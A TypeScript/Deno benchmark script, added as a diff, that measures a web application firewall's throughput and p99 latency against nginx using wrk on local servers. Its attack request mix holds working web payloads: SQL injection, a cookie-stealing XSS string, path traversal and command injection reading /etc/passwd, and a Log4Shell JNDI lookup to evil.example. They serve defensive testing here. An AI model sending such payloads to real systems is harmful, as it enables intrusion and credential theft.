@@ -1,0 +1,437 @@
+/**
+ * Measures the data plane against nginx in one run, with one load generator (wrk):
+ *
+ * 1. the upstream served directly (nginx static, one worker);
+ * 2. nginx as a plain reverse proxy (Debian's nginx-light, one worker, pooled keep-alive);
+ * 3. the WAF with protection off;
+ * 4. the WAF with default protection (balanced, block);
+ *
+ * each on a benign request mix and on an attack mix, then the p99 latency the WAF adds at half
+ * of its maximum rate. wrk2 is not packaged in Debian, so the paced runs use wrk's Lua
+ * `delay()` hook: every connection waits between requests so the total rate is the target.
+ *
+ * ```sh
+ * deno task bench:proxy [--duration 10] [--connections 50] [--threads 2] [--json]
+ * ```
+ *
+ * wrk and nginx-light are installed with apt-get when missing (needs root).
+ */
+import { parseArgs } from "node:util";
+import { createAuditRepo } from "../db/audit_repo.ts";
+import { createSitesRepo } from "../db/sites_repo.ts";
+import { openStore } from "../db/store.ts";
+import { createAudit } from "../mod/audit.ts";
+import { systemClock } from "../mod/clock.ts";
+import { createPolicy } from "../mod/policy.ts";
+import { systemRandom } from "../mod/random.ts";
+import { siteInputSchema } from "../mod/site_schema.ts";
+import { createSites } from "../mod/sites.ts";
+
+const ROOT = new URL("..", import.meta.url).pathname;
+
+interface WrkResult {
+  readonly rps: number;
+  readonly p50: number;
+  readonly p90: number;
+  readonly p99: number;
+  readonly non2xx: number;
+  readonly requests: number;
+}
+
+async function run(
+  cmd: string,
+  args: string[],
+  quiet = true,
+): Promise<{ code: number; out: string }> {
+  const out = await new Deno.Command(cmd, {
+    args,
+    stdout: "piped",
+    stderr: quiet ? "piped" : "inherit",
+  }).output();
+  return { code: out.code, out: new TextDecoder().decode(out.stdout) };
+}
+
+async function which(bin: string): Promise<boolean> {
+  return (await run("sh", ["-c", `command -v ${bin}`])).code === 0;
+}
+
+/** Installs a Debian package when its binary is missing. */
+async function ensure(bin: string, pkg: string): Promise<void> {
+  if (await which(bin)) return;
+  console.log(`installing ${pkg} (apt-get) ...`);
+  await run("apt-get", ["update", "-qq"]);
+  const r = await run("apt-get", ["install", "-y", "-qq", pkg]);
+  if (r.code !== 0 || !(await which(bin))) {
+    throw new Error(`Cannot install "${pkg}": run "apt-get install ${pkg}" as root`);
+  }
+}
+
+function freePort(): number {
+  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const port = (l.addr as Deno.NetAddr).port;
+  l.close();
+  return port;
+}
+
+async function waitForPort(port: number, what: string): Promise<void> {
+  for (let i = 0; i < 300; i++) {
+    try {
+      (await Deno.connect({ hostname: "127.0.0.1", port })).close();
+      return;
+    } catch {
+      await new Promise((r) => setTimeout(r, 50));
+    }
+  }
+  throw new Error(`${what} did not start listening on port ${port}`);
+}
+
+function nginxConf(dir: string, name: string, server: string, upstreamBlock = ""): string {
+  return `worker_processes 1;
+daemon off;
+pid ${dir}/${name}.pid;
+error_log ${dir}/${name}.error.log warn;
+events { worker_connections 4096; }
+http {
+  access_log off;
+  client_body_temp_path ${dir}/${name}_body;
+  proxy_temp_path ${dir}/${name}_proxy;
+  keepalive_requests 1000000;
+  ${upstreamBlock}
+  server {
+    ${server}
+  }
+}
+`;
+}
+
+async function startNginx(dir: string, name: string, conf: string, port: number) {
+  const path = `${dir}/${name}.conf`;
+  await Deno.writeTextFile(path, conf);
+  const child = new Deno.Command("nginx", {
+    args: ["-c", path, "-p", dir],
+    stdout: "null",
+    stderr: "inherit",
+  }).spawn();
+  await waitForPort(port, `nginx (${name})`);
+  return child;
+}
+
+const BENIGN: ReadonlyArray<readonly [string, string, string, string]> = [
+  ["GET", "/index.html", "", ""],
+  ["GET", "/products?id=42&sort=price&page=2", "", ""],
+  ["GET", "/search?q=how+to+select+the+union+of+two+sets+and+drop+duplicates", "", ""],
+  [
+    "POST",
+    "/login",
+    "application/x-www-form-urlencoded",
+    "username=alice&password=correct+horse+battery&remember=on",
+  ],
+  [
+    "POST",
+    "/api/orders",
+    "application/json",
+    '{"item":"book","qty":2,"note":"Please drop it at the door, <b>thanks</b>"}',
+  ],
+  ["GET", "/static/app.js?v=1.4.2", "", ""],
+];
+
+const ATTACK: ReadonlyArray<readonly [string, string, string, string]> = [
+  ["GET", "/products?id=1%27%20OR%201=1--", "", ""],
+  ["GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", ""],
+  ["GET", "/download?file=../../../../etc/passwd", "", ""],
+  [
+    "POST",
+    "/api/ping",
+    "application/x-www-form-urlencoded",
+    "host=127.0.0.1%3Bcat%20/etc/passwd",
+  ],
+  ["GET", "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "", ""],
+  ["GET", "/?x=%24%7Bjndi:ldap://evil.example/a%7D", "", ""],
+];
+
+function luaString(s: string): string {
+  return JSON.stringify(s);
+}
+
+/** A wrk script cycling through `mix`; with `delayMs` each connection paces itself. */
+function wrkScript(
+  mix: ReadonlyArray<readonly [string, string, string, string]>,
+  host: string,
+  delayMs?: number,
+): string {
+  const reqs = mix.map(([method, path, type, body]) => {
+    const headers = [
+      `["Host"]=${luaString(host)}`,
+      `["User-Agent"]="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"`,
+      `["Accept"]="text/html,application/json;q=0.9,*/*;q=0.8"`,
+      `["Cookie"]="session=4f2a9c1e7b; theme=dark"`,
+      ...(type ? [`["Content-Type"]=${luaString(type)}`] : []),
+    ];
+    return `wrk.format(${luaString(method)}, ${luaString(path)}, {${headers.join(", ")}}, ${
+      body ? luaString(body) : "nil"
+    })`;
+  });
+  const pacing = delayMs === undefined ? "" : `
+local base = ${Math.floor(delayMs)}
+local frac = ${delayMs - Math.floor(delayMs)}
+function delay()
+  if math.random() < frac then return base + 1 end
+  return base
+end`;
+  return `local reqs = {}
+init = function(args)
+  reqs = { ${reqs.join(",\n  ")} }
+  math.randomseed(os.time() + math.floor(os.clock() * 1000000))
+end
+local i = 0
+request = function()
+  i = i + 1
+  return reqs[(i % #reqs) + 1]
+end
+${pacing}
+`;
+}
+
+function toMs(value: string, unit: string): number {
+  const n = Number(value);
+  return unit === "us" ? n / 1000 : unit === "s" ? n * 1000 : n;
+}
+
+function parseWrk(out: string): WrkResult {
+  const pct = (p: string) => {
+    const m = new RegExp(`^\\s+${p}%\\s+([\\d.]+)(us|ms|s)\\s*$`, "m").exec(out);
+    return m ? toMs(m[1]!, m[2]!) : NaN;
+  };
+  return {
+    rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN),
+    p50: pct("50"),
+    p90: pct("90"),
+    p99: pct("99"),
+    non2xx: Number(/Non-2xx or 3xx responses:\s+(\d+)/.exec(out)?.[1] ?? 0),
+    requests: Number(/(\d+) requests in/.exec(out)?.[1] ?? 0),
+  };
+}
+
+async function wrk(
+  dir: string,
+  url: string,
+  script: string,
+  opts: { threads: number; connections: number; duration: number },
+): Promise<WrkResult> {
+  const path = `${dir}/script_${crypto.randomUUID()}.lua`;
+  await Deno.writeTextFile(path, script);
+  const r = await run("wrk", [
+    `-t${opts.threads}`,
+    `-c${opts.connections}`,
+    `-d${opts.duration}s`,
+    "--latency",
+    "-s",
+    path,
+    url,
+  ]);
+  if (r.code !== 0) throw new Error(`wrk failed:\n${r.out}`);
+  return parseWrk(r.out);
+}
+
+/** Creates the two benchmark sites directly in a fresh store before the WAF starts. */
+function seedSites(dataDir: string, upstream: string): void {
+  const db = openStore(`${dataDir}/waf.db`, { now: systemClock.now() });
+  try {
+    const repo = createSitesRepo(db);
+    const policy = createPolicy({ listSites: () => repo.list(), clock: systemClock });
+    const sites = createSites({
+      db,
+      repo,
+      audit: createAudit({ repo: createAuditRepo(db), clock: systemClock }),
+      policy,
+      clock: systemClock,
+      random: systemRandom,
+    });
+    const who = { actor: { type: "cli" as const, name: "bench_proxy" } };
+    sites.create(
+      siteInputSchema.parse({
+        name: "off",
+        hosts: ["off.bench"],
+        upstreams: [upstream],
+        mode: "off",
+      }),
+      who,
+    );
+    sites.create(
+      siteInputSchema.parse({ name: "on", hosts: ["on.bench"], upstreams: [upstream] }),
+      who,
+    );
+  } finally {
+    db.close();
+  }
+}
+
+async function startWaf(dir: string, upstream: string, dataPort: number, mgmtPort: number) {
+  const dataDir = `${dir}/waf`;
+  await Deno.mkdir(dataDir, { recursive: true });
+  await Deno.writeTextFile(
+    `${dataDir}/waf.yaml`,
+    `server:
+  data:
+    listen: "127.0.0.1:${dataPort}"
+  management:
+    listen: "127.0.0.1:${mgmtPort}"
+logging:
+  level: warn
+`,
+  );
+  seedSites(dataDir, upstream);
+  const child = new Deno.Command(Deno.execPath(), {
+    args: ["run", "-A", `${ROOT}main.ts`, "serve", "--data-dir", dataDir],
+    stdout: "null",
+    stderr: "inherit",
+  }).spawn();
+  await waitForPort(dataPort, "waf data plane");
+  return child;
+}
+
+function fmt(n: number, digits = 2): string {
+  return Number.isFinite(n) ? n.toFixed(digits) : "n/a";
+}
+
+export async function main(args: string[]): Promise<number> {
+  const { values } = parseArgs({
+    args,
+    options: {
+      duration: { type: "string", default: "10" },
+      connections: { type: "string", default: "50" },
+      threads: { type: "string", default: "2" },
+      json: { type: "boolean", default: false },
+    },
+  });
+  const opts = {
+    duration: Number(values.duration),
+    connections: Number(values.connections),
+    threads: Number(values.threads),
+  };
+  await ensure("wrk", "wrk");
+  await ensure("nginx", "nginx-light");
+  const dir = await Deno.makeTempDir({ prefix: "waf-bench-" });
+  const children: Deno.ChildProcess[] = [];
+  try {
+    const upPort = freePort();
+    children.push(
+      await startNginx(
+        dir,
+        "upstream",
+        nginxConf(
+          dir,
+          "upstream",
+          `listen 127.0.0.1:${upPort}; location / { default_type text/plain; return 200 "hello from the upstream\\n"; }`,
+        ),
+        upPort,
+      ),
+    );
+    const rpPort = freePort();
+    children.push(
+      await startNginx(
+        dir,
+        "proxy",
+        nginxConf(
+          dir,
+          "proxy",
+          `listen 127.0.0.1:${rpPort};
+    location / {
+      proxy_pass http://backend;
+      proxy_http_version 1.1;
+      proxy_set_header Connection "";
+      proxy_set_header Host $host;
+      proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
+      proxy_set_header X-Forwarded-Proto $scheme;
+    }`,
+          `upstream backend { server 127.0.0.1:${upPort}; keepalive 128; }`,
+        ),
+        rpPort,
+      ),
+    );
+    const wafPort = freePort();
+    children.push(await startWaf(dir, `http://127.0.0.1:${upPort}`, wafPort, freePort()));
+
+    const targets = [
+      { name: "upstream direct", url: `http://127.0.0.1:${upPort}`, host: "on.bench" },
+      { name: "nginx reverse proxy", url: `http://127.0.0.1:${rpPort}`, host: "on.bench" },
+      { name: "waf, protection off", url: `http://127.0.0.1:${wafPort}`, host: "off.bench" },
+      { name: "waf, balanced/block", url: `http://127.0.0.1:${wafPort}`, host: "on.bench" },
+    ] as const;
+    const results: Record<string, Record<string, WrkResult>> = {};
+    for (const [mixName, mix] of [["benign", BENIGN], ["attack", ATTACK]] as const) {
+      results[mixName] = {};
+      for (const t of targets) {
+        // A short warm-up fills connection pools and JIT caches before the measured run.
+        await wrk(dir, t.url, wrkScript(mix, t.host), { ...opts, duration: 2 });
+        const r = await wrk(dir, t.url, wrkScript(mix, t.host), opts);
+        results[mixName]![t.name] = r;
+        if (!values.json) {
+          console.log(
+            `${mixName.padEnd(6)} ${t.name.padEnd(22)} ${fmt(r.rps, 0).padStart(8)} req/s  p50 ${
+              fmt(r.p50)
+            } ms  p90 ${fmt(r.p90)} ms  p99 ${fmt(r.p99)} ms  non-2xx ${r.non2xx}/${r.requests}`,
+          );
+        }
+      }
+    }
+    // Half of the WAF's maximum benign rate, paced; compare p99 with the upstream served directly.
+    const wafMax = results["benign"]!["waf, balanced/block"]!.rps;
+    const target = wafMax / 2;
+    const delayMs = (opts.connections * 1000) / target;
+    const paced: Record<string, WrkResult> = {};
+    for (const t of [targets[0], targets[3]]) {
+      const script = wrkScript(BENIGN, t.host, delayMs);
+      await wrk(dir, t.url, script, { ...opts, duration: 2 });
+      paced[t.name] = await wrk(dir, t.url, script, opts);
+    }
+    const direct = paced["upstream direct"]!;
+    const waf = paced["waf, balanced/block"]!;
+    const b = results["benign"]!;
+    const a = results["attack"]!;
+    const ratios = {
+      benign_waf_default_vs_nginx: b["waf, balanced/block"]!.rps / b["nginx reverse proxy"]!.rps,
+      benign_waf_off_vs_nginx: b["waf, protection off"]!.rps / b["nginx reverse proxy"]!.rps,
+      benign_waf_default_vs_off: b["waf, balanced/block"]!.rps / b["waf, protection off"]!.rps,
+      attack_waf_default_vs_nginx: a["waf, balanced/block"]!.rps / a["nginx reverse proxy"]!.rps,
+      nginx_vs_upstream: b["nginx reverse proxy"]!.rps / b["upstream direct"]!.rps,
+    };
+    const added = { target_rps: target, direct, waf, added_p99_ms: waf.p99 - direct.p99 };
+    if (values.json) {
+      console.log(JSON.stringify({ options: opts, results, ratios, half_rate: added }, null, 2));
+    } else {
+      console.log("\nratios (requests/s):");
+      for (const [k, v] of Object.entries(ratios)) {
+        console.log(`  ${k.padEnd(30)} ${fmt(v * 100, 1)}%`);
+      }
+      console.log(
+        `\nat half the WAF's max rate (target ${fmt(target, 0)} req/s, wrk delay() pacing):` +
+          `\n  upstream direct      ${fmt(direct.rps, 0)} req/s  p50 ${fmt(direct.p50)} ms  p99 ${
+            fmt(direct.p99)
+          } ms` +
+          `\n  waf, balanced/block  ${fmt(waf.rps, 0)} req/s  p50 ${fmt(waf.p50)} ms  p99 ${
+            fmt(waf.p99)
+          } ms` +
+          `\n  p99 added by the WAF: ${fmt(added.added_p99_ms)} ms`,
+      );
+      console.log(
+        `\ntargets: WAF default >= 40% of nginx (${
+          fmt(ratios.benign_waf_default_vs_nginx * 100, 1)
+        }%: ${ratios.benign_waf_default_vs_nginx >= 0.4 ? "met" : "NOT met"}); p99 added <= 2 ms (${
+          fmt(added.added_p99_ms)
+        } ms: ${added.added_p99_ms <= 2 ? "met" : "NOT met"})`,
+      );
+    }
+    return 0;
+  } finally {
+    for (const c of children) {
+      try {
+        c.kill("SIGTERM");
+      } catch { /* already gone */ }
+      await c.status;
+    }
+    await Deno.remove(dir, { recursive: true }).catch(() => {});
+  }
+}
+
+if (import.meta.main) Deno.exit(await main(Deno.args));
